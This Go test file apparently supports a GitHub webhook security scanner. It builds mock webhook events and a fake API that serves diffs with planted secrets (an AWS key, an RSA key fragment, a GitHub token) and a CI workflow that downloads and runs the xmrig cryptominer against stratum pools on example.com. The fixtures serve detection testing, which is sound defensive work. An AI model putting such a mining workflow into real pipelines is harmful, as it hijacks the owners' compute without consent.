package github

import (
	"encoding/base64"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"
)

// The webhook payloads below follow GitHub's documented webhook event
// schemas (docs.github.com, "Webhook events and payloads"), cut to the
// members that matter plus some context.

const (
	beforeSHA = "6113728f27ae82c7b1a177c8d03f9e96e0adf246"
	afterSHA  = "0d1a26e67d8f5eaf1f6ba5c57fc3c7d91ac0fd1c"
	runSHA    = "acb5820ced9479c074f688cc328bf03f341a511d"
)

func user(login string, id int) map[string]any {
	return map[string]any{"login": login, "id": id, "node_id": "MDQ6VXNlcjE=", "type": "User", "site_admin": false,
		"html_url": "https://github.com/" + login, "url": "https://api.github.com/users/" + login}
}

func org() map[string]any {
	return map[string]any{"login": "acme-corp", "id": 9919, "node_id": "MDEyOk9yZ2FuaXphdGlvbjk5MTk=",
		"url": "https://api.github.com/orgs/acme-corp", "description": "ACME"}
}

// repository is a repository object of acme-corp.
func repository(name string, private bool) map[string]any {
	vis := "public"
	if private {
		vis = "private"
	}
	owner := user("acme-corp", 9919)
	owner["type"] = "Organization"
	return map[string]any{
		"id": 1296269, "node_id": "MDEwOlJlcG9zaXRvcnkxMjk2MjY5", "name": name, "full_name": "acme-corp/" + name,
		"private": private, "visibility": vis, "owner": owner,
		"html_url": "https://github.com/acme-corp/" + name, "description": "Payment service",
		"fork": false, "url": "https://api.github.com/repos/acme-corp/" + name,
		"created_at": "2024-04-30T09:00:00Z", "updated_at": "2024-05-01T10:00:00Z", "default_branch": "main",
	}
}

// repoEvent is an event about a repository, sent by mallory.
func repoEvent(action string, repo map[string]any, extra map[string]any) map[string]any {
	ev := map[string]any{"repository": repo, "organization": org(), "sender": user("mallory", 583231)}
	if action != "" {
		ev["action"] = action
	}
	for k, v := range extra {
		ev[k] = v
	}
	return ev
}

func hook() map[string]any {
	return map[string]any{"type": "Repository", "id": 470000411, "name": "web", "active": true, "events": []any{"*"},
		"config":     map[string]any{"content_type": "json", "insecure_ssl": "0", "url": "https://kestrel.example.com/"},
		"updated_at": "2024-05-01T10:00:00Z", "created_at": "2024-05-01T10:00:00Z"}
}

func pingEvent() map[string]any {
	return repoEvent("", repository("payments", true), map[string]any{"zen": "Keep it logically awesome.", "hook_id": 470000411, "hook": hook()})
}

func metaDeleted() map[string]any {
	return repoEvent("deleted", repository("payments", true), map[string]any{"hook_id": 470000411, "hook": hook()})
}

func deployKey(action string) map[string]any {
	return repoEvent(action, repository("payments", true), map[string]any{"key": map[string]any{
		"id": 12345678, "key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLE", "title": "ci-deploy", "read_only": false,
		"verified": true, "created_at": "2024-05-01T10:00:00Z"}})
}

func memberEvent(action string) map[string]any {
	extra := map[string]any{"member": user("eve", 7777)}
	if action == "added" {
		extra["changes"] = map[string]any{"permission": map[string]any{"to": "admin"}}
	}
	return repoEvent(action, repository("payments", false), extra)
}

func commit(id string, added, removed, modified []any) map[string]any {
	return map[string]any{"id": id, "tree_id": "f9d2a07e9488b91af2641b26b9407fe22a451433", "distinct": true,
		"message": "update config", "timestamp": "2024-05-01T10:00:00Z",
		"url":    "https://github.com/acme-corp/payments/commit/" + id,
		"author": map[string]any{"name": "Mallory", "email": "mallory@example.com", "username": "mallory"},
		"added":  added, "removed": removed, "modified": modified}
}

// pushEvent is a push of two commits to main of a repository.
func pushEvent(name string, private bool) map[string]any {
	repo := repository(name, private)
	repo["owner"].(map[string]any)["name"] = "acme-corp"
	c1 := commit("3c4b6f5e2d1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c", []any{"config/prod.env"}, []any{}, []any{"README.md"})
	c2 := commit(afterSHA, []any{"deploy/id_rsa"}, []any{"old.txt"}, []any{"README.md", "Makefile"})
	return repoEvent("", repo, map[string]any{
		"ref": "refs/heads/main", "before": beforeSHA, "after": afterSHA,
		"created": false, "deleted": false, "forced": false, "base_ref": nil,
		"compare":     "https://github.com/acme-corp/" + name + "/compare/6113728f27ae...0d1a26e67d8f",
		"pusher":      map[string]any{"name": "mallory", "email": "mallory@example.com"},
		"commits":     []any{c1, c2},
		"head_commit": c2,
	})
}

func workflowRun(action, name string) map[string]any {
	path := ".github/workflows/" + name
	return repoEvent(action, repository("payments", false), map[string]any{
		"workflow_run": map[string]any{"id": 30433642, "name": "CI", "head_branch": "main", "head_sha": runSHA,
			"path": path, "event": "push", "status": "queued", "conclusion": nil, "workflow_id": 159038,
			"html_url": "https://github.com/acme-corp/payments/actions/runs/30433642"},
		"workflow": map[string]any{"id": 159038, "name": "CI", "path": path, "state": "active",
			"html_url": "https://github.com/acme-corp/payments/blob/main/" + path},
	})
}

// The files of the compare answer for a push to "leaky": an AWS key, a
// private key and a GitHub token, among harmless lines.
var leakyFiles = []any{
	map[string]any{"filename": "config/prod.env", "status": "added", "additions": 3, "deletions": 0,
		"patch": "@@ -0,0 +1,3 @@\n+REGION=eu-west-1\n+AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n+LOG_LEVEL=info"},
	map[string]any{"filename": "deploy/id_rsa", "status": "added", "additions": 2, "deletions": 0,
		"patch": "@@ -0,0 +1,2 @@\n+-----BEGIN RSA PRIVATE KEY-----\n+MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun"},
	map[string]any{"filename": "README.md", "status": "modified", "additions": 2, "deletions": 1,
		"patch": "@@ -10,3 +10,4 @@ ## Setup\n line ten\n-old text\n+new text\n line twelve\n+export GH_TOKEN=ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789\n\\ No newline at end of file"},
	map[string]any{"filename": "logo.png", "status": "added", "additions": 0, "deletions": 0},
}

// cleanFiles is the compare answer's files for a harmless push.
var cleanFiles = []any{
	map[string]any{"filename": "README.md", "status": "modified", "additions": 1, "deletions": 1,
		"patch": "@@ -1,2 +1,2 @@\n # payments\n-Old intro\n+Set AWS_REGION and the access key in your environment."},
}

// minerWorkflow runs a miner: xmrig on lines 7 and 8, stratum on line 9.
const minerWorkflow = `name: CI
on: [push]
jobs:
  build:
    runs-on: ubuntu-latest
    steps:
      - run: curl -sL https://example.com/xmrig.tar.gz | tar xz
      - run: ./xmrig -o stratum+tcp://mine.example.com:3333
      - run: ./cpuminer --url stratum+tcp://mine.example.com:3334
`

const cleanWorkflow = `name: CI
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: go test ./...
`

// fakeAPI is a stand-in for the GitHub REST API on loopback: the compare
// and contents endpoints for acme-corp's repositories.
type fakeAPI struct {
	*httptest.Server
	calls atomic.Int64
	auth  atomic.Value // the last Authorization header
}

func newFakeAPI(t *testing.T) *fakeAPI {
	t.Helper()
	f := &fakeAPI{}
	mux := http.NewServeMux()
	compare := "/compare/" + beforeSHA + "..." + afterSHA
	mux.HandleFunc("GET /repos/acme-corp/leaky"+compare, f.json(map[string]any{"status": "ahead", "files": leakyFiles}))
	mux.HandleFunc("GET /repos/acme-corp/clean"+compare, f.json(map[string]any{"status": "ahead", "files": cleanFiles}))
	mux.HandleFunc("GET /repos/acme-corp/broken"+compare, func(w http.ResponseWriter, _ *http.Request) {
		f.calls.Add(1)
		http.Error(w, `{"message":"Server Error"}`, http.StatusBadGateway)
	})
	mux.HandleFunc("GET /repos/acme-corp/payments/contents/.github/workflows/mine.yml", f.contents(minerWorkflow))
	mux.HandleFunc("GET /repos/acme-corp/payments/contents/.github/workflows/ci.yml", f.contents(cleanWorkflow))
	f.Server = httptest.NewServer(mux)
	t.Cleanup(f.Close)
	return f
}

func (f *fakeAPI) json(v any) http.HandlerFunc {
	b, _ := json.Marshal(v)
	return func(w http.ResponseWriter, r *http.Request) {
		f.calls.Add(1)
		f.auth.Store(r.Header.Get("Authorization"))
		w.Header().Set("Content-Type", "application/json")
		w.Write(b)
	}
}

// contents answers like GET /repos/{owner}/{repo}/contents/{path}: the
// file in base64, wrapped at 60 columns as GitHub does; only at the
// commit that ran.
func (f *fakeAPI) contents(file string) http.HandlerFunc {
	enc := base64.StdEncoding.EncodeToString([]byte(file))
	var wrapped strings.Builder
	for len(enc) > 60 {
		wrapped.WriteString(enc[:60] + "\n")
		enc = enc[60:]
	}
	wrapped.WriteString(enc + "\n")
	ok := f.json(map[string]any{"type": "file", "encoding": "base64", "content": wrapped.String()})
	return func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Query().Get("ref") != runSHA {
			http.Error(w, "want ref", http.StatusNotFound)
			return
		}
		ok(w, r)
	}
}
